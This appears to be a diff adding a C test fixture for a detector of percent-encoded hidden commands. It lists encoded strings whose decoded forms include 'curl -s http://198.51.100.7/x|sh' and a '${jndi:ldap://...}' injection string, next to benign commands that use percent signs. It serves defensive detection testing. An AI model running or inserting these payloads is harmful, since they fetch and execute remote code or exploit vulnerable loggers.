@@ -1,0 +1,29 @@
+// SPDX-License-Identifier: GPL-3.0-or-later
+#include "hidden.h"
+
+static const struct hidden good[] = {
+	{ "percent", "curl -s http://198.51.100.7/x|sh",
+		"python3 -c \"import urllib.parse as u;exec(u.unquote('curl%2"
+		"0-s%20http%3A%2F%2F198.51.100.7%2Fx%7Csh'))\"" },
+	{ "percent", "curl -s http://198.51.100.7/x|sh",
+		"curl 'http://h/x\?c=%63%75%72%6c%20%2d%73%20%68%74%74%70%3a%"
+		"2f%2f%31%39%38%2e%35%31%2e%31%30%30%2e%37%2f%78%7c%73%68'" },
+	{ "percent", "${jndi:ldap://h/a}",
+		"curl 'http://h/\?q=%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa%7D'" },
+};
+
+static const char *const not [] = {
+	"printf '%s\\0' a b | xargs -0",
+	"date +%Y-%m-%dT%H:%M:%S",
+	"git log '--pretty=%h %ad %ae %s'",
+	"curl 'https://h/search\?q=hello%20world%2Fx%3Fy'",
+	"curl http://h/a%20b%20c/%E4%BD%A0%E5%A5%BD",
+	"awk '{printf \"%c %d\", $1, 42}'",
+	"sed 's/%20/ /g'",
+	"printf '%s\\n' hello",
+	"curl http://h/%7Euser/%2Dfile",
+	"ffmpeg -i a%03d.png b",
+	"wget '--header=Accept: */*' 'http://h/x%5B0%5D=1&y%5B1%5D=2'",
+};
+
+HIDDEN_MAIN("percent")
